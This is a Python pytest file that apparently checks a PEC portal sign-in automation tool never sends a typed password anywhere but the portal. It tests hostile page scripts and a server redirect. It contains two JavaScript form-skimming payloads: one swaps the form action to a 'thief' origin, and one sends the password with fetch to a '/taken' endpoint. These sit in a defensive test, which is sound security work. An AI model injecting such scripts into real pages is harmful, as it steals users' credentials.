"""What is typed at a sign-in form reaches the portal and nobody else, whatever scripts and servers do (SEC-2)."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import TYPE_CHECKING, ClassVar

import pytest
from pydantic import SecretStr

from pec_autorenew.errors import ForeignOrigin, PecAutorenewError
from pec_autorenew.flows import sign_in
from pec_autorenew.launching import started
from pec_autorenew.names import Names
from pec_autorenew.pages.asking import register
from pec_autorenew.pages.portal_pages import PortalPages

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

FORM = """<!doctype html><h1>Accedi</h1><form id=f method=post action="/login">
<label>Username o casella PEC <input name=username></label><label>Password <input type=password name=password></label>
<button>Accedi</button></form><script>{script}</script>"""
SWAPPED = "f.addEventListener('submit', () => {{ f.action = '{thief}/taken' }})"
IN_JSON = (
    "f.addEventListener('submit', (event) => {{ event.preventDefault();"
    " const body = JSON.stringify({{ it: f.password.value }});"
    " fetch('{thief}/taken', {{ method: 'POST', mode: 'no-cors', body }}) }})"
)


class Server(BaseHTTPRequestHandler):
    """A portal, or a thief: by their ports."""

    taken: ClassVar[list[str]] = []
    thief: ClassVar[str] = ""
    script: ClassVar[str] = ""
    redirects: ClassVar[bool] = False

    def log_message(self, *_: object) -> None:
        """Say nothing."""

    def do_GET(self) -> None:
        """Show the form; a thief takes what the address holds."""
        if self._is_thief():
            self.taken.append(self.path)
        self._answer(FORM.format(script=self.script.format(thief=self.thief)))

    def do_POST(self) -> None:
        """Take what was sent, or pass it on."""
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
        if self._is_thief():
            self.taken.append(body)
        if self.redirects and not self._is_thief():
            self.send_response(307)
            self.send_header("Location", f"{self.thief}/taken")
            self.end_headers()
        else:
            self._answer("<h1>Grazie</h1>")

    def _is_thief(self) -> bool:
        return self.headers["Host"] in self.thief

    def _answer(self, text: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(text.encode())


@pytest.fixture
def portal() -> Iterator[str]:
    """Serve a portal and a thief; give the portal's origin."""
    servers = [ThreadingHTTPServer(("127.0.0.1", 0), Server) for _ in range(2)]
    for server in servers:
        Thread(target=server.serve_forever, daemon=True).start()
    own, Server.thief = (f"http://127.0.0.1:{server.server_port}" for server in servers)
    Server.taken.clear()
    Server.script, Server.redirects = "", False
    yield own
    for server in servers:
        server.shutdown()
        server.server_close()


def signing_in(portal: str, password: str, meanwhile: Callable[[PortalPages], object] = lambda _: None) -> None:
    """Sign in with a browser of its own, in a thread of its own: pytest-playwright's may be in this one."""

    def sign() -> None:
        with started(local=True, allowed_hosts=("127.0.0.1",), timeout=4_000, prepare=(register,)) as browser:
            pages = PortalPages(browser.session(), Names({}, {}), f"{portal}/")

            def secret() -> SecretStr:
                meanwhile(pages)
                return SecretStr(password)

            sign_in.sign_in(pages, "100001@aruba.it", secret, [portal])

    with ThreadPoolExecutor(1) as thread:
        thread.submit(sign).result()


@pytest.mark.parametrize("password", ["S3gret0-A", "S3gret0*A!", "S3gret0~A", "S3gret0 à \"è'"])
@pytest.mark.parametrize("script", [SWAPPED, IN_JSON], ids=["another target", "JSON"])
def test_password_that_a_script_sends_elsewhere_does_not_leave(portal: str, password: str, script: str) -> None:
    """SEC-2: however it is spelled on its way."""
    Server.script = script
    with pytest.raises(ForeignOrigin, match="would have gone to"):
        signing_in(portal, password)
    assert Server.taken == []


def test_password_is_not_passed_on_by_the_portals_server(portal: str) -> None:
    """SEC-2: a 307 has the browser send the same form again, and no route sees it."""
    Server.redirects = True
    with pytest.raises(ForeignOrigin, match="would have gone to"):
        signing_in(portal, "S3gret0-A")
    assert Server.taken == []


def test_page_that_went_elsewhere_while_the_secret_was_fetched_gets_none(portal: str) -> None:
    """SEC-2: a program that gives the secret may take half a minute; the form is looked at again after it."""
    with pytest.raises(PecAutorenewError):
        signing_in(portal, "S3gret0-A", lambda pages: pages.session.page.goto(f"{Server.thief}/"))
    assert not [one for one in Server.taken if "S3gret0" in one or "100001" in one]
